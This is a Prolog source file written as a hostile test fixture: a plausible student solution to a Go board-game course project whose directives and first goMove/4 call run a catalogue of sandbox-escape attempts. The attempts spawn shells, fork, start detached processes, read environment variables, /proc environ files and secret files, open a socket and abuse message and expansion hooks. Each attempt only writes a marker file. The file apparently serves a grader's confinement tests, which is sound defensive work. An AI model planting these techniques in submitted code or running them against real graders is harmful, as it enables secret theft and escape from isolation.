/*  An attacker's proylcc.pl, for tests/test_escapes.py: a valid-looking solution of the
    2019 course project (emptyBoard/1, goMove/4, terminarJuego/3, the code of
    tests/students/correct.pl) whose directives, and whose goMove/4 on its first call, try
    to do harm: start processes (shell, process_create, a setsid child that outlives its
    parent, fork), write a marker file outside their directory, read the environment, a
    secret file, the project and a database, reach the network, install message and
    portray hooks, and run code through the message and format paths (~@, portray_goal,
    throw of format terms: goMove/4's first call ends so; a directive that throws would
    stop the loading, and goMove/4 would never be asked).  Every attempt is wrapped in
    catch/3, so one refused attempt does not stop the others, and so is every hook it
    installs (a hook that raises, once confined, would make the loading fail).

    The test fills in the placeholders (@DIR@ ...) and writes one copy per path (@TAG@:
    serve or grade).  Each attempt's evidence is a file DIR/TAG-PHASE-NAME, PHASE being
    load (a directive) or move (goMove/4): the name of a marker that exists says which
    attempt escaped on which path.
*/
:- module(proylcc,
          [ emptyBoard/1,   % -Board
            goMove/4,       % +Board, +Player, +Pos, -RBoard
            terminarJuego/3 % +Board, -PuntosW, -PuntosB
          ]).

:- catch(use_module(library(unix)), _, true).
:- catch(use_module(library(process)), _, true).
:- catch(use_module(library(socket)), _, true).
:- catch(use_module(library(readutil)), _, true).
:- catch(use_module(library(yall)), _, true).

                 /*******************************
                 *           ESCAPES            *
                 *******************************/

esc_dir('@DIR@').
esc_tag('@TAG@').

marker(Phase, Name, M) :-
    esc_dir(D),
    esc_tag(T),
    atomic_list_concat([D, '/', T, '-', Phase, '-', Name], M).

%   attempt(?Name, ?Marker, ?Goal): Goal tries to do harm; Marker is its evidence file.
attempt(shell, M, (atom_concat('touch ', M, C), shell(C))).
attempt(shell2, M, (atom_concat('touch ', M, C), shell(C, _))).
attempt(process_create, M, (process_create(path(touch), [M], [process(P)]), process_wait(P, _))).
attempt(process_abs, M, (process_create('/usr/bin/touch', [M], [process(P)]), process_wait(P, _))).
attempt(setsid, M,
        ( format(atom(C), 'sleep 2; touch ~w', [M]),
          process_create(path(setsid), [sh, '-c', C],
                         [stdin(null), stdout(null), stderr(null), detached(true)]) )).
attempt(survivor, M,
        ( format(atom(C), 'sleep 60; touch ~w', [M]),
          process_create(path(setsid), [sh, '-c', C],
                         [stdin(null), stdout(null), stderr(null), detached(true)]) )).
attempt(shell_bg, M,
        ( format(atom(C), 'setsid sh -c "sleep 2; touch ~w" >/dev/null 2>&1 </dev/null &', [M]),
          shell(C) )).
attempt(fork, M,
        ( fork(P),
          (   P == child
          ->  catch((open(M, write, S), close(S)), _, true),
              catch(exec('/bin/true'), _, true),
              current_prolog_flag(pid, Me),
              process_kill(Me, kill)
          ;   wait(P, _)
          ) )).
attempt(open, M, (open(M, write, S), close(S))).
attempt(open_append, M, (open(M, append, S), write(S, x), close(S))).
attempt(env_marker, M, (getenv('TABLERO_CANARY', V), open(M, write, S), write(S, V), close(S))).
attempt(env_print, _,
        ( getenv('TABLERO_CANARY', V),
          format("canary ~w~n", [V]),
          format(user_error, "canary ~w~n", [V]) )).
attempt(env_message, _, (getenv('TABLERO_CANARY', V), print_message(error, format("canary ~w", [V])))).
attempt(env_proc, M,
        ( expand_file_name('/proc/[0-9]*/environ', Fs),
          member(F, Fs),
          catch(read_file_to_codes(F, Cs, [type(binary)]), _, fail),
          append(_, [0'T,0'A,0'B,0'L,0'E,0'R,0'O,0'_,0'C,0'A,0'N,0'A,0'R,0'Y,0'=|Rest], Cs),
          append(VCs, [0|_], Rest),
          !,
          atom_codes(V, VCs),
          format("canary ~w~n", [V]),
          open(M, write, S), write(S, V), close(S) )).
attempt(secret_read, M,
        ( read_file_to_string('@SECRET@', T, []),
          format("~s~n", [T]),
          open(M, write, S), write(S, T), close(S) )).
attempt(project_read, M,
        ( read_file_to_string('@PROJECT@', T, []),
          format("~s~n", [T]),
          open(M, write, S), write(S, T), close(S) )).
attempt(db_read, M,
        ( read_file_to_codes('@DB@', Cs, [type(binary)]),
          atom_codes(A, Cs),
          format("~w~n", [A]),
          open(M, write, S), write(S, A), close(S) )).
attempt(consult_secret, M,
        ( load_files('@SECRET@', []),
          secret_token(X),
          format("~w~n", [X]),
          open(M, write, S), write(S, X), close(S) )).
attempt(net, M, (tcp_connect('127.0.0.1':@PORT@, S, []), format(S, "~w~n", [M]), close(S))).
attempt(tmp_file, M, (tmp_file_stream(text, F, S), close(S), copy_file(F, M))).
attempt(load_string, M,
        ( format(string(T), ":- open('~w', write, S), close(S).", [M]),
          open_string(T, In),
          load_files(esc_loaded, [stream(In)]) )).
attempt(pm_format, M, print_message(error, format("~@", [(open(M, write, S), close(S))]))).
attempt(pm_shell, M, (atom_concat('touch ', M, C), print_message(error, format("~@", [shell(C)])))).
attempt(format_atom, M, format(atom(_), "~@", [(open(M, write, S), close(S))])).
attempt(with_output_to, M,
        with_output_to(string(_), format("~@", [(open(M, write, S), close(S))]))).
attempt(portray_goal, M,
        format("~W", [x, [portray_goal([_, _]>>(open(M, write, S), close(S)))]])).
attempt(thread, M,
        thread_create((sleep(1), open(M, write, S), close(S)), _, [detached(true)])).
attempt(message_hook, M,
        asserta((user:message_hook(_, _, _) :-
                     catch((open(M, write, S), close(S)), _, true), fail))).
attempt(portray_hook, M,
        ( assertz((user:portray(_) :- catch((open(M, write, S), close(S)), _, true), fail)),
          print(x) )).
attempt(prolog_message, M,
        ( assertz((prolog:message(esc_trigger, L, L) :-
                      catch((open(M, write, S), close(S)), _, true))),
          print_message(error, esc_trigger) )).
attempt(cleanup, M, setup_call_cleanup(true, fail, (open(M, write, S), close(S)))).
attempt(at_halt, M, at_halt((open(M, write, S), close(S)))).
attempt(throw_caught, M,
        catch(throw(format("~@", [(open(M, write, S), close(S))])), E, print_message(error, E))).
attempt(term_expansion, M,
        ( assertz((user:term_expansion(esc_term, []) :-
                      catch((open(M, write, S), close(S)), _, true))),
          open_string("esc_term.", In),
          load_files(esc_expanded, [stream(In)]) )).
attempt(goal_expansion, M,
        ( assertz((user:goal_expansion(esc_goal, true) :-
                      catch((open(M, write, S), close(S)), _, true))),
          expand_goal(esc_goal, _) )).
attempt(nb_setval, M,
        ( nb_setval(esc, format("~@", [(open(M, write, S), close(S))])),
          nb_getval(esc, T),
          print_message(error, T) )).

try_one(Phase, Name, M, G) :-
    marker(Phase, Name, M),
    (   catch(call_with_time_limit(3, G), _, true) -> true ; true ).

escape(Phase) :-
    forall(attempt(Name, M, G), try_one(Phase, Name, M, G)),
    catch(print_message(error, format("esc trigger", [])), _, true).

:- escape(load).
:- print_message(error, format("~@", [(open('@DIR@/@TAG@-load-directive_pm', write, S), close(S))])).
:- initialization(catch((open('@DIR@/@TAG@-load-initialization', write, S), close(S)), _,
                           true)).

                 /*******************************
                 *          THE RULES           *
                 *******************************/

emptyBoard(Board) :-
    length(Row, 19),
    maplist(=("-"), Row),
    length(Board, 19),
    maplist(=(Row), Board).

%   On its first call (in a process), goMove/4 tries every escape, then throws a format
%   term whose printing runs code; afterwards it is a correct goMove/4.
goMove(Board, Player, Pos, RBoard) :-
    (   nb_current(esc_moved, true)
    ->  true
    ;   nb_setval(esc_moved, true),
        escape(move),
        marker(move, throw, M),
        throw(format("~@", [(open(M, write, S), close(S))]))
    ),
    go_move(Board, Player, Pos, RBoard).

go_move(Board, Player, [R, C], RBoard) :-
    other(Player, Other),
    cell(Board, R, C, "-"),
    set_cell(Board, R, C, Player, Board1),
    neighbours(Board1, R, C, Ns),
    foldl(capture(Other), Ns, Board1, Board2),
    group(Board2, [R, C], Player, _, Liberties),
    Liberties \== [],
    RBoard = Board2.

other("b", "w").
other("w", "b").

capture(Colour, P, Board0, Board) :-
    (   P = [R, C],
        cell(Board0, R, C, Colour),
        group(Board0, P, Colour, Stones, [])
    ->  foldl(clear, Stones, Board0, Board)
    ;   Board = Board0
    ).

clear([R, C], Board0, Board) :-
    set_cell(Board0, R, C, "-", Board).

group(Board, P, Colour, Stones, Liberties) :-
    flood([P], Board, Colour, [P], Stones, [], Liberties).

flood([], _, _, Seen, Seen, Libs, Libs).
flood([[R, C]|Queue], Board, Colour, Seen0, Seen, Libs0, Libs) :-
    neighbours(Board, R, C, Ns),
    foldl(visit(Board, Colour), Ns, Queue-Seen0-Libs0, Queue1-Seen1-Libs1),
    flood(Queue1, Board, Colour, Seen1, Seen, Libs1, Libs).

visit(Board, Colour, [R, C], Q0-S0-L0, Q-S-L) :-
    cell(Board, R, C, X),
    (   X == "-"
    ->  Q = Q0, S = S0,
        ( memberchk([R, C], L0) -> L = L0 ; L = [[R, C]|L0] )
    ;   X == Colour, \+ memberchk([R, C], S0)
    ->  Q = [[R, C]|Q0], S = [[R, C]|S0], L = L0
    ;   Q = Q0, S = S0, L = L0
    ).

neighbours(Board, R, C, Ns) :-
    length(Board, N),
    R1 is R - 1, R2 is R + 1, C1 is C - 1, C2 is C + 1,
    include(on_board(N), [[R1, C], [R2, C], [R, C1], [R, C2]], Ns).

on_board(N, [R, C]) :-
    R >= 0, R < N, C >= 0, C < N.

cell(Board, R, C, X) :-
    integer(R), integer(C), R >= 0, C >= 0,
    nth0(R, Board, Row),
    nth0(C, Row, X).

set_cell(Board0, R, C, X, Board) :-
    nth0(R, Board0, Row0, Rows),
    nth0(C, Row0, _, Cells),
    nth0(C, Row, X, Cells),
    nth0(R, Board, Row, Rows),
    !.

terminarJuego(Board, PuntosW, PuntosB) :-
    findall(X, (member(Row, Board), member(X, Row)), Cells),
    include(==("w"), Cells, Ws), length(Ws, W0),
    include(==("b"), Cells, Bs), length(Bs, B0),
    PuntosW = W0,
    PuntosB = B0.
